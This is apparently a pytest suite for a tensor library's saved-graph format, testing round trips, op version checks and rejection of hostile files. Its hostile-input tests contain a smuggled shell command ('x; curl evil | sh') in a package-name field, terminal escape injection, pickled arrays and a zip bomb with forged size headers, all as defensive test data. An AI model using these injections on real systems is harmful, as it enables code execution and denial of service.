"""ok.save / ok.load / opkernel inspect: round trips, the op checks at load, hostile files.

Graphs are built by hand here (the IR of opkernel.graph), so these tests do not
depend on tracing; tests/test_saved_graph_e2e.py saves traced functions."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any, Callable

import numpy as np
import pytest

import opkernel as ok
from opkernel import _saved_format, saving
from opkernel._provenance import Provider, providing
from opkernel.errors import GraphFormatError, IncompatibleOpError, InvalidArgumentError, OpNotFoundError, ResourceExhaustedError
from opkernel.graph import Edge, Graph, Node, TensorSpec
from opkernel.testing import isolated_registries

from isolated import run_isolated

F32 = ok.float32
W = np.arange(6, dtype=np.float32).reshape(3, 2)
BIAS = np.array([1.0, -100.0], np.float32)


def dense_graph() -> Graph:
    """relu(x @ w + bias): a variable, a constant, three builtin ops."""
    w = ok.Variable(W, name="w")
    return Graph(
        inputs=[TensorSpec((None, 3), F32, "x")],
        nodes=[
            Node("MatMul", {"T": F32, "transpose_a": False, "transpose_b": False},
                 [Edge("input", 0), Edge("var", 0)], [TensorSpec((None, 2), F32)]),
            Node("Add", {"T": F32}, [Edge("node", 0), Edge("const", 0)], [TensorSpec((None, 2), F32)]),
            Node("Relu", {"T": F32}, [Edge("node", 1)], [TensorSpec((None, 2), F32)]),
        ],
        outputs=[Edge("node", 2), Edge("node", 0)],
        output_structure={"relu": 0, "parts": [1]},
        constants=[BIAS],
        variables=[w],
        variable_names=["w"],
    )


def expected(x: np.ndarray) -> np.ndarray:
    return np.maximum(x @ W + BIAS, 0)


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    path = tmp_path / "dense.okg"
    ok.save(dense_graph(), path)
    return path


def rewrite(src: Path, dst: Path, edit: Callable[[dict[str, Any]], Any] | None = None,
            members: Callable[[dict[str, bytes]], None] | None = None) -> Path:
    """A copy of ``src`` with graph.json edited by ``edit`` (in place, or returning a replacement)."""
    with zipfile.ZipFile(src) as zf:
        contents = {name: zf.read(name) for name in zf.namelist()}
    if edit is not None:
        doc = json.loads(contents["graph.json"])
        doc = edit(doc) or doc
        contents["graph.json"] = json.dumps(doc).encode()
    if members is not None:
        members(contents)
    with zipfile.ZipFile(dst, "w") as zf:
        for name, data in contents.items():
            zf.writestr(name, data, compress_type=zipfile.ZIP_STORED if name.endswith(".npy") else zipfile.ZIP_DEFLATED)
    return dst


# ------------------------------------------------------------------ round trips


def test_round_trip_keeps_the_graph(saved: Path) -> None:
    loaded = ok.load(saved)
    original = dense_graph()
    g = loaded.graph
    assert [n.op for n in g.nodes] == ["MatMul", "Add", "Relu"]
    assert [n.inputs for n in g.nodes] == [n.inputs for n in original.nodes]
    assert [n.outputs for n in g.nodes] == [n.outputs for n in original.nodes]
    defaults = {a.name: a.default for a in ok.op_def("MatMul").attrs if a.has_default}
    assert g.nodes[0].attrs == {**defaults, "T": F32}  # every attr: the saved ones, the defaults filled in
    assert g.nodes[0].provider == ok.op_def("MatMul").provider
    assert g.outputs == original.outputs and g.output_structure == {"relu": 0, "parts": [1]}
    np.testing.assert_array_equal(g.constants[0], BIAS)
    assert loaded.signature == (TensorSpec((None, 3), F32, "x"),)
    assert [v.name for v in loaded.variables] == ["w"] and loaded.variables[0].trainable
    np.testing.assert_array_equal(loaded.variables[0].numpy(), W)
    assert g.variables[0] is loaded.variables[0]
    g.validate()


def test_loaded_graph_runs_on_every_backend(saved: Path, backend: str) -> None:
    loaded = ok.load(saved)
    assert loaded.variables[0].backend == backend
    x = np.array([[1, 2, 3], [-4, 0, 1]], np.float32)
    out = loaded(ok.tensor(x))
    np.testing.assert_allclose(out["relu"].numpy(), expected(x), rtol=1e-6)
    np.testing.assert_allclose(out["parts"][0].numpy(), x @ W, rtol=1e-6)
    with pytest.raises(ok.errors.InvalidArgumentError, match=r"no saved graph takes \(float32\[2, 4\]\)"):
        loaded(ok.tensor(np.zeros((2, 4), np.float32)))


def test_load_onto_a_named_backend(saved: Path) -> None:
    if "opencl" not in ok.available_backends():
        pytest.skip("needs the opencl backend")
    with ok.use_backend("cpu"):
        loaded = ok.load(saved, backend="opencl")
    assert loaded.variables[0].backend == "opencl"
    with ok.use_backend("opencl"):
        x = np.ones((1, 3), np.float32)
        np.testing.assert_allclose(loaded(x)["relu"].numpy(), expected(x), rtol=1e-6)


def test_attr_kinds_round_trip(tmp_path: Path) -> None:
    """Every attr kind the format names: type, shape, tensor, string, int, float, bool and lists."""
    with isolated_registries():
        ok.register_op("Test>AllKinds").input("x: T").output("y: T").attr("T: type").attr("s: shape") \
            .attr("t: tensor").attr("name: string").attr("n: int").attr("f: float").attr("b: bool") \
            .attr("ls: list(shape)").attr("lf: list(float)").attr("lt: list(type)")
        attrs = {"T": F32, "s": ok.TensorShape([None, 3]), "t": np.array([[1.5, np.inf]], np.float32),
                 "name": "näme", "n": -(2**62), "f": float("nan"), "b": True,
                 "ls": (ok.TensorShape(None), ok.TensorShape([2])), "lf": (0.5, float("-inf")), "lt": (ok.int32, F32)}
        graph = Graph([TensorSpec(None, F32)], [Node("Test>AllKinds", attrs, [Edge("input", 0)], [TensorSpec(None, F32)])],
                      [Edge("node", 0)], 0)
        ok.save(graph, tmp_path / "kinds.okg")
        back = ok.load(tmp_path / "kinds.okg").graph.nodes[0].attrs
    assert back["T"] is F32 and back["s"] == ok.TensorShape([None, 3]) and back["name"] == "näme"
    np.testing.assert_array_equal(back["t"], attrs["t"])
    assert back["n"] == -(2**62) and np.isnan(back["f"]) and back["b"] is True
    assert back["ls"][0].rank is None and back["ls"][1] == ok.TensorShape([2])
    assert back["lf"] == (0.5, float("-inf")) and back["lt"] == (ok.int32, F32)


@pytest.mark.parametrize("value", [np.array(3, np.int32), np.zeros((0, 2), np.float64), np.arange(6.0).reshape(2, 3).T,
                                   np.array([1.5, -2.25], dtype=">f4")], ids=["scalar", "empty", "strided", "big-endian"])
def test_constants_keep_shape_dtype_and_values(tmp_path: Path, value: np.ndarray) -> None:
    dtype = ok.as_dtype(value.dtype.newbyteorder("="))
    graph = Graph([], [Node("Identity", {"T": dtype}, [Edge("const", 0)], [TensorSpec(value.shape, dtype)])],
                  [Edge("node", 0)], 0, constants=[value])
    ok.save(graph, tmp_path / "c.okg")
    back = ok.load(tmp_path / "c.okg")
    assert back.graph.constants[0].shape == value.shape and ok.as_dtype(back.graph.constants[0].dtype) is dtype
    np.testing.assert_array_equal(back.graph.constants[0], value)
    with ok.use_backend("cpu"):
        np.testing.assert_array_equal(back().numpy(), value)


def test_traced_training_step_with_two_traces(tmp_path: Path) -> None:
    """A traced step (a tape and Adam inside) traced for two batch sizes: both traces are
    saved with the variables they share, and the loaded step trains its own copies."""
    with ok.use_backend("cpu"):
        w = ok.Variable(np.full((3, 1), 0.5, np.float32), name="w")
        opt = ok.nn.Adam(learning_rate=0.1)

        @ok.function
        def step(x: ok.Tensor, y: ok.Tensor) -> ok.Tensor:
            with ok.GradientTape() as tape:
                loss = ok.ops.mean(ok.ops.square(ok.ops.mat_mul(x, w) - y), [0, 1])
            opt.apply_gradients(zip(tape.gradient(loss, [w]), [w]))
            return loss

        rng = np.random.default_rng(1)
        batches = [(rng.standard_normal((n, 3)).astype(np.float32), rng.standard_normal((n, 1)).astype(np.float32))
                   for n in (4, 8, 4, 8)]
        step(*batches[0])
        step(*batches[1])
        assert step.tracing_count == 2
        ok.save(step, tmp_path / "step.okg")
        loaded = ok.load(tmp_path / "step.okg")
        assert len(loaded.graphs) == 2 and "w" in [v.name for v in loaded.variables]
        # every graph's variables are among the loaded function's (the same objects)
        assert all(any(v is u for u in loaded.variables) for g in loaded.graphs for v in g.variables)
        saved_w = loaded.variables[[v.name for v in loaded.variables].index("w")]
        np.testing.assert_array_equal(saved_w.numpy(), w.numpy())
        for x, y in batches[2:]:
            np.testing.assert_allclose(loaded(x, y).numpy(), step(x, y).numpy(), rtol=1e-6)
        np.testing.assert_allclose(saved_w.numpy(), w.numpy(), rtol=1e-6)
        assert not np.allclose(saved_w.numpy(), 0.5)


def test_save_refuses_what_it_cannot_save(tmp_path: Path) -> None:
    with pytest.raises(ok.errors.InvalidArgumentError, match="expected a traced function"):
        ok.save(object(), tmp_path / "x.okg")
    with pytest.raises(ok.errors.InvalidArgumentError, match="function '<lambda>' has not been traced yet"):
        ok.save(ok.function(lambda x: x), tmp_path / "x.okg")
    strings = Graph([], [], [], None, constants=[np.array(["a"], dtype=object)])
    with pytest.raises(ok.errors.InvalidArgumentError, match="string tensors cannot be saved"):
        ok.save(strings, tmp_path / "x.okg")
    assert not list(tmp_path.iterdir())


# ------------------------------------------------------------------ ops at load: missing, changed


def _register_thing(version_extra: str = "", padding: str = "{'SAME', 'VALID'}") -> None:
    builder = ok.register_op("Test>Thing").input("x: T").output("y: T").attr("T: {float, double}") \
        .attr(f"padding: {padding}")
    if version_extra:
        builder.attr(version_extra)


def _thing_graph() -> Graph:
    return Graph([TensorSpec((2,), F32)],
                 [Node("Test>Thing", {"T": F32, "padding": "SAME"}, [Edge("input", 0)], [TensorSpec((2,), F32)])],
                 [Edge("node", 0)], 0)


def _save_thing(path: Path) -> None:
    with isolated_registries(), providing(Provider("thing", "opkernel-thing", "1.2.0")):
        _register_thing()
        ok.save(_thing_graph(), path)


def test_missing_op_names_the_package(tmp_path: Path) -> None:
    path = tmp_path / "thing.okg"
    _save_thing(path)
    with pytest.raises(OpNotFoundError) as info:
        ok.load(path)
    assert "op 'Test>Thing' is provided by opkernel-thing (saved with 1.2.0): pip install opkernel-thing" in str(info.value)
    assert info.value.distribution == "opkernel-thing" and info.value.saved_version == "1.2.0"


def test_missing_op_registered_by_a_script(tmp_path: Path) -> None:
    path = tmp_path / "local.okg"
    with isolated_registries():
        ok.register_op("Test>Local").input("x: float").output("y: float")
        graph = Graph([TensorSpec((2,), F32)], [Node("Test>Local", {}, [Edge("input", 0)], [TensorSpec((2,), F32)])],
                      [Edge("node", 0)], 0)
        ok.save(graph, path)
    with pytest.raises(OpNotFoundError, match=r"op 'Test>Local' is not registered; when the graph was saved it was "
                       r"registered by 'test_saving', not by an installed distribution: register it before ok.load"):
        ok.load(path)


def test_compatible_change_loads_with_the_new_default(tmp_path: Path) -> None:
    path = tmp_path / "thing.okg"
    _save_thing(path)
    with isolated_registries():
        _register_thing("extra: int = 7")
        loaded = ok.load(path)
        assert loaded.graph.nodes[0].attrs["extra"] == 7
        assert [s.state for s in loaded.ops if s.op == "Test>Thing"] == ["compatible"]


def test_incompatible_change_names_the_rule(tmp_path: Path) -> None:
    path = tmp_path / "thing.okg"
    _save_thing(path)
    with isolated_registries():
        _register_thing(padding="{'VALID'}")
        with pytest.raises(IncompatibleOpError, match=r"op 'Test>Thing' changed incompatibly since the graph was saved "
                           r"\(saved with opkernel-thing 1.2.0\).*constraint tightened"):
            ok.load(path)
    with isolated_registries():
        _register_thing("extra: int")
        with pytest.raises(IncompatibleOpError, match="attr added without default"):
            ok.load(path)


def test_inspect_cli(saved: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from opkernel import cli

    assert cli.main(["inspect", str(saved)]) == 0
    out = capsys.readouterr().out
    assert "MatMul" in out and "opkernel 0.1.0" in out and "loads here: yes" in out
    relu = next(line for line in out.splitlines() if "Relu" in line)
    assert all(name in relu for name in ok.available_backends())  # the backends with a kernel for the op
    path = tmp_path / "thing.okg"
    _save_thing(path)
    assert cli.main(["inspect", str(path)]) == 1
    out = capsys.readouterr().out
    assert "pip install opkernel-thing" in out and "not installed" in out and "loads here: no" in out
    assert cli.main(["inspect", str(tmp_path / "absent.okg")]) == 2
    assert "No such file" in capsys.readouterr().err
    (tmp_path / "junk.okg").write_bytes(b"junk")
    assert cli.main(["inspect", str(tmp_path / "junk.okg")]) == 2
    assert "not a readable zip archive" in capsys.readouterr().err


# ------------------------------------------------------------------ hostile and damaged files


def _node(doc: dict[str, Any], k: int) -> dict[str, Any]:
    return doc["functions"][0]["graph"]["nodes"][k]  # type: ignore[no-any-return]


def _refingerprint(doc: dict[str, Any], op: str, edit: Callable[[Any], Any]) -> None:
    """Edit an op's interface and store the fingerprint of the edited one (as a forger would)."""
    entry = doc["ops"][op]
    entry["interface"] = edit(entry["interface"]) or entry["interface"]
    entry["fingerprint"] = saving._fingerprint(entry["interface"]) if isinstance(entry["interface"], dict) else "sha256:0"


BAD_EDITS: list[tuple[str, Callable[[dict[str, Any]], Any], str]] = [
    ("newer version", lambda d: d.update(format_version=2), "format version 2; this opkernel reads version 1; upgrade"),
    ("other format", lambda d: d.update(format="tf-saved-model"), "not an opkernel saved graph"),
    ("not an object", lambda d: [1, 2], "must hold an object, got an array"),
    ("unknown attr type", lambda d: _node(d, 0)["attrs"]["T"].update(type="func"), "unknown attr type 'func'"),
    ("attr type mismatch", lambda d: _node(d, 0)["attrs"]["transpose_a"].update(type="int", value=1),
     "is 'int'; the op's attr 'transpose_a' has type 'bool'"),
    ("attr bad value", lambda d: _node(d, 0)["attrs"]["T"].update(value="int8"), "attr 'T' must be one of"),
    ("dangling node edge", lambda d: _node(d, 1)["inputs"].__setitem__(0, ["node", 9, 0]), "a dangling edge"),
    ("dangling var edge", lambda d: _node(d, 0)["inputs"].__setitem__(1, ["var", 3, 0]), "reads variable 3"),
    ("cycle", lambda d: _node(d, 0)["inputs"].__setitem__(0, ["node", 2, 0]), "a cycle, or nodes out of"),
    ("self loop", lambda d: _node(d, 1)["inputs"].__setitem__(0, ["node", 1, 0]), "does not come before node 1"),
    ("bad edge kind", lambda d: _node(d, 1)["inputs"].__setitem__(0, ["file", 0, 0]), "kind in"),
    ("too few inputs", lambda d: _node(d, 1)["inputs"].__delitem__(1), "takes 2 inputs (x, y), the node has 1"),
    ("too many inputs", lambda d: _node(d, 2)["inputs"].append(["input", 0, 0]), "takes 1 inputs (features), the node has 2"),
    ("wrong input dtype", lambda d: d["functions"][0]["graph"]["inputs"][0].update(dtype="float64"),
     "input 'a' of op 'MatMul' must be float32, got float64"),
    ("wrong output dtype", lambda d: _node(d, 2)["outputs"][0].update(dtype="int32"), "must be float32, got int32"),
    ("unknown dtype", lambda d: _node(d, 2)["outputs"][0].update(dtype="float7"), "unknown dtype 'float7'"),
    ("negative dim", lambda d: _node(d, 2)["outputs"][0].update(shape=[-5]), "must be in [0,"),
    ("huge rank", lambda d: _node(d, 2)["outputs"][0].update(shape=[1] * 1000), "rank 1000 is over the limit"),
    ("huge variable", lambda d: d["variables"][0].update(shape=[10**9, 10**9]), "EiB; the file holds 152 bytes for it"),
    ("variable shape mismatch", lambda d: d["variables"][0].update(shape=[2, 3]), "graph.json says shape (2, 3)"),
    ("output shape disagrees", lambda d: _node(d, 2)["outputs"][0].update(shape=[None, 3]),
     "nodes[2].outputs[0]: saved as float32[?, 3], but the shape function of op 'Relu' gives float32[?, 2]"),
    ("input rank disagrees", lambda d: d["functions"][0]["graph"]["inputs"][0].update(shape=[None, 3, 1]),
     "graph node 0 (op 'MatMul')"),
    ("unknown op", lambda d: _node(d, 2).update(op="Nope"), "the op 'Nope' is not in the file's 'ops' table"),
    ("edited interface", lambda d: d["ops"]["Relu"]["interface"].update(is_stateful=True), "does not match the interface"),
    ("interface of wrong types, fingerprint redone", lambda d: _refingerprint(d, "Relu", lambda i: i["attrs"][0].update(type={})),
     "ops['Relu'].interface: not a well-formed op definition (TypeError"),
    ("interface not an object, fingerprint redone", lambda d: _refingerprint(d, "Relu", lambda i: [1]),
     "ops['Relu'].interface: must be an object, got an array"),
    ("output index", lambda d: d["functions"][0]["graph"].update(output_structure=[5]), "must be in [0, 1], got 5"),
    ("deep structure", lambda d: d["functions"][0]["graph"].update(output_structure=json.loads("[" * 100 + "0" + "]" * 100)),
     "nested deeper than 64"),
    ("member outside tensors/", lambda d: d["variables"][0].update(data="graph.json"), "must name a member 'tensors/"),
    ("missing member", lambda d: d["variables"][0].update(data="tensors/none.npy"), "no member 'tensors/none.npy'"),
    ("shell in distribution", lambda d: d["ops"]["Relu"]["provider"].update(distribution="x; curl evil | sh"),
     "'x; curl evil | sh' is not a valid distribution name"),
    ("extra key", lambda d: _node(d, 0).update(code="import os"), "unknown key 'code'"),
    ("bool as index", lambda d: _node(d, 2)["inputs"].__setitem__(0, ["node", True, 0]), "must be an integer"),
]


@pytest.mark.parametrize("edit, message", [pytest.param(e, m, id=i) for i, e, m in BAD_EDITS])
def test_hostile_graph_json(saved: Path, tmp_path: Path, edit: Any, message: str) -> None:
    bad = rewrite(saved, tmp_path / "bad.okg", edit)
    with pytest.raises(GraphFormatError) as info:
        ok.load(bad)
    assert message in str(info.value)
    assert str(bad) in str(info.value)


def test_damaged_archives(saved: Path, tmp_path: Path) -> None:
    data = saved.read_bytes()
    for cut in (0, 10, len(data) // 2, len(data) - 10):
        (tmp_path / "cut.okg").write_bytes(data[:cut])
        with pytest.raises(GraphFormatError, match="not a readable zip archive|damaged|truncated|runs past"):
            ok.load(tmp_path / "cut.okg")
    flipped = bytearray(data)
    start = data.index(b"\x93NUMPY")  # inside a stored tensor: the CRC catches it
    flipped[start + 100] ^= 0xFF
    (tmp_path / "flip.okg").write_bytes(bytes(flipped))
    with pytest.raises(GraphFormatError):
        ok.load(tmp_path / "flip.okg")
    with pytest.raises(GraphFormatError, match=r"no graph.json"):
        ok.load(rewrite(saved, tmp_path / "nojson.okg", members=lambda m: m.pop("graph.json")))
    with pytest.raises(GraphFormatError, match="is not valid JSON"):
        ok.load(rewrite(saved, tmp_path / "text.okg", members=lambda m: m.update({"graph.json": b"{'a': 1"})))
    with pytest.raises(GraphFormatError, match="literal NaN is not JSON"):
        ok.load(rewrite(saved, tmp_path / "nan.okg", members=lambda m: m.update({"graph.json": b"[NaN]"})))
    with pytest.raises(GraphFormatError, match="nested too deeply"):
        ok.load(rewrite(saved, tmp_path / "deep.okg", members=lambda m: m.update({"graph.json": b"[" * 100_000})))


def test_tensor_members_are_checked_before_reading(saved: Path, tmp_path: Path) -> None:
    def pickled(m: dict[str, bytes]) -> None:
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, np.array([object()] * 6, dtype=object).reshape(3, 2), allow_pickle=True)
        m["tensors/var0.npy"] = buffer.getvalue()

    with pytest.raises(GraphFormatError, match=r"dtype \|O"):
        ok.load(rewrite(saved, tmp_path / "pickle.okg", members=pickled))

    def fortran(m: dict[str, bytes]) -> None:
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, np.asfortranarray(W))
        m["tensors/var0.npy"] = buffer.getvalue()

    with pytest.raises(GraphFormatError, match="Fortran order"):
        ok.load(rewrite(saved, tmp_path / "fortran.okg", members=fortran))

    def short(m: dict[str, bytes]) -> None:
        m["tensors/var0.npy"] = m["tensors/var0.npy"][:-8]

    with pytest.raises(GraphFormatError, match="holds 16 bytes of data; shape"):
        ok.load(rewrite(saved, tmp_path / "short.okg", members=short))
    compressed = tmp_path / "deflated.okg"
    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(compressed, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            dst.writestr(name, src.read(name))
    with pytest.raises(GraphFormatError, match="must be stored uncompressed"):
        ok.load(compressed)


def test_sizes_within_limits(saved: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_saved_format, "host_available_bytes", lambda: 16)  # graph.json's parse
    monkeypatch.setattr(saving, "host_available_bytes", lambda: 16)  # the tensors
    with pytest.raises(ResourceExhaustedError, match=r"graph.json declares .* KiB; parsing it may take .* KiB of host "
                       "memory and the host has 16 bytes available"):
        ok.load(saved)
    monkeypatch.setattr(_saved_format, "JSON_EXPANSION", 0)
    with pytest.raises(ResourceExhaustedError, match="its tensors need 56 bytes of host memory; the host has 16 bytes"):
        ok.load(saved)
    monkeypatch.undo()
    monkeypatch.setattr(_saved_format, "MAX_MEMBERS", 2)
    with pytest.raises(GraphFormatError, match=r"dense.okg: holds 3 members; at most 2 are read$"):
        ok.load(saved)
    monkeypatch.undo()
    # A zip bomb: graph.json that inflates past the limit is refused from its declared size, and
    # a member whose declared size lies is never read past the limit.
    monkeypatch.setattr(_saved_format, "MAX_JSON_BYTES", 1 << 20)
    bomb = rewrite(saved, tmp_path / "bomb.okg", members=lambda m: m.update({"graph.json": b" " * (4 << 20) + b"{}"}))
    assert bomb.stat().st_size < 64 << 10
    with pytest.raises(GraphFormatError, match=r"declares 4.0 MiB; at most 1.0 MiB is read"):
        ok.load(bomb)
    liar = bytearray(bomb.read_bytes())
    size = (4 << 20) + 2
    # the central directory and local header both state the uncompressed size: make them small
    liar = bytearray(bytes(liar).replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little")))
    (tmp_path / "liar.okg").write_bytes(bytes(liar))
    with pytest.raises(GraphFormatError, match="graph.json"):
        ok.load(tmp_path / "liar.okg")


def test_traces_a_loaded_function_could_not_tell_apart_are_refused(tmp_path: Path) -> None:
    """A loaded function takes tensors only: traces for different Python values with the
    same tensor specs would all match a call, and the first would run for every one."""
    with ok.use_backend("cpu"):
        scale = ok.function(lambda x, s: x * s)
        x = ok.tensor(np.ones(2, np.float32))
        scale(x, 2.0)
        scale(x, 3.0)
        with pytest.raises(InvalidArgumentError, match=r"take the same tensors \(float32\[2\]\).*get_concrete_function"):
            ok.save(scale, tmp_path / "scale.okg")
        assert not (tmp_path / "scale.okg").exists()
        ok.save(scale.get_concrete_function(x, 3.0), tmp_path / "three.okg")
        assert ok.load(tmp_path / "three.okg")(x).numpy().tolist() == [3.0, 3.0]
        relaxed = ok.function(lambda x: x * 2.0, reduce_retracing=True)  # one Python signature: saved as it is
        for n in (2, 3, 4):
            relaxed(ok.tensor(np.ones(n, np.float32)))
        assert len(relaxed.concrete_functions) == relaxed.tracing_count == 2
        ok.save(relaxed, tmp_path / "relaxed.okg")
        assert len(ok.load(tmp_path / "relaxed.okg").graphs) == 2


def test_saves_to_one_path_from_threads_each_write_their_own_file(tmp_path: Path) -> None:
    """Each save writes a temporary file of its own and renames it: two threads saving
    different graphs to one path never raise and leave one whole graph (they shared one
    temporary file, so the file left could hold a failed save's graph or a bad CRC)."""
    import threading

    path = tmp_path / "g.okg"
    small = ok.function(lambda x: ok.ops.add(x, x)).get_concrete_function(ok.TensorSpec([2], "float32"))
    big = dense_graph()
    errors: list[BaseException] = []
    start = threading.Barrier(2)

    def save(obj: Any) -> None:
        start.wait(30)
        try:
            for _ in range(30):
                ok.save(obj, path)
        except BaseException as e:  # noqa: BLE001 - any error fails the test below
            errors.append(e)

    threads = [threading.Thread(target=save, args=(g,)) for g in (small, big)]
    [t.start() for t in threads]
    [t.join(60) for t in threads]
    assert errors == []
    loaded = ok.load(path)  # a whole graph, either one
    assert loaded is not None
    assert [p.name for p in tmp_path.iterdir()] == ["g.okg"]  # no temporary file left


def test_inspect_shows_strings_from_the_file_escaped(saved: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Terminal escape sequences (and newlines) in a file's version, op names and other
    strings reach the terminal escaped, never raw."""
    from opkernel import cli

    evil = "\x1b]0;pwned\x07\x1b[2J\nloads here: yes\u202e"

    def edit(doc: dict[str, Any]) -> None:
        doc["opkernel_version"] = evil  # shown in the header line (a provider's version is checked at read)

    path = rewrite(saved, tmp_path / "evil.okg", edit)
    cli.main(["inspect", str(path)])
    captured = capsys.readouterr()
    shown = captured.out + captured.err
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "\\x1b]0;pwned\\x07" in shown
    assert sum(line.startswith("loads here:") for line in shown.splitlines()) <= 1  # no forged line


@pytest.mark.parametrize("kind", ["directory", "device", "fifo"])
def test_load_and_inspect_read_regular_files_only(tmp_path: Path, kind: str) -> None:
    """A directory, a link to /dev/zero (read without end: a raw MemoryError) and a FIFO
    (blocked forever) are GraphFormatErrors naming what they are; inspect exits 2.  In a
    child process with a timeout: a regression would hang."""
    import os

    path = tmp_path / "thing.okg"
    if kind == "directory":
        path.mkdir()
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        os.mkfifo(path)
    what = {"directory": "a directory", "device": "a device", "fifo": "a FIFO"}[kind]
    code = (
        "import subprocess, sys, opkernel as ok\n"
        "from opkernel.errors import GraphFormatError\n"
        f"try:\n    ok.load({str(path)!r})\nexcept GraphFormatError as e:\n    print('load:', e)\n"
        f"r = subprocess.run([sys.executable, '-m', 'opkernel', 'inspect', {str(path)!r}], capture_output=True, text=True, timeout=60)\n"
        "print('inspect:', r.returncode, r.stderr.strip())\n"
    )
    out = run_isolated(code, what=f"ok.load of {what}", timeout=120).stdout
    assert f"load: {path}: is {what}, not a saved graph" in out
    assert f"inspect: 2 opkernel inspect: {path}: is {what}" in out


def test_references_to_one_member_are_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Constants naming one .npy member share one read-only array (each reference read the
    member again: a 1 MiB file of 600 such constants cost about 600 MiB)."""
    def f(x: Any) -> Any:
        for k in range(5):
            x = ok.ops.add(x, np.full(3, k, np.float32))
        return x

    src = tmp_path / "c.okg"
    ok.save(ok.function(f).get_concrete_function(ok.TensorSpec([3], "float32")), src)

    def share(doc: dict[str, Any]) -> None:
        for c in doc["functions"][0]["graph"]["constants"]:
            c["data"] = "tensors/f0_c0.npy"  # every constant is the first one (zeros)

    path = rewrite(src, tmp_path / "shared.okg", share)
    reads: list[str] = []
    real = saving._Archive._read_tensor

    def counting(self: Any, where: str, ref: Any) -> Any:
        reads.append(ref.member)
        return real(self, where, ref)

    monkeypatch.setattr(saving._Archive, "_read_tensor", counting)
    loaded = ok.load(path)
    assert reads == ["tensors/f0_c0.npy"]
    np.testing.assert_array_equal(loaded(np.ones(3, np.float32)).numpy(), np.ones(3, np.float32))
    assert saving.inspect(path).tensor_bytes == 12  # counted once


def test_a_stored_tensor_whose_dimensions_overflow_is_a_format_error(tmp_path: Path) -> None:
    """Shape [0, 2**62, 2**62]: no element, but numpy cannot make the array (a raw
    ValueError 'array is too big' escaped ok.load)."""
    import io

    shape = [0, 2**62, 2**62]
    src = tmp_path / "k.okg"
    ok.save(ok.function(lambda x: ok.ops.add(x, np.ones(3, np.float32))).get_concrete_function(ok.TensorSpec([3], "float32")), src)

    def edit(doc: dict[str, Any]) -> None:
        doc["functions"][0]["graph"]["constants"][0]["shape"] = shape

    def members(m: dict[str, bytes]) -> None:
        buf = io.BytesIO()
        np.lib.format.write_array_header_1_0(buf, {"descr": "<f4", "fortran_order": False, "shape": tuple(shape)})
        m["tensors/f0_c0.npy"] = buf.getvalue()

    path = rewrite(src, tmp_path / "huge.okg", edit, members)
    with pytest.raises(GraphFormatError, match=r"constants\[0\]: shape \[0, 4611686018427387904, 4611686018427387904\] of float32 is too large for an array"):
        ok.load(path)


def test_a_node_with_too_many_inputs_is_refused_before_compiling(tmp_path: Path) -> None:
    """An AddN of 400k inputs in an 11 KiB file took 1.3 GiB at the first call, then a raw
    MemoryError from compile(): fan-in is bounded at load."""
    src = tmp_path / "a.okg"
    ok.save(ok.function(lambda x: ok.ops.add_n([x, x])).get_concrete_function(ok.TensorSpec([2], "float32")), src)

    def edit(doc: dict[str, Any]) -> None:
        node = doc["functions"][0]["graph"]["nodes"][0]
        node["inputs"] = node["inputs"][:1] * (saving.MAX_NODE_INPUTS + 1)
        node["attrs"]["N"]["value"] = saving.MAX_NODE_INPUTS + 1

    path = rewrite(src, tmp_path / "wide.okg", edit)
    with pytest.raises(GraphFormatError, match=rf"nodes\[0\]\.inputs: op 'AddN' has {saving.MAX_NODE_INPUTS + 1} inputs; at most {saving.MAX_NODE_INPUTS}"):
        ok.load(path)
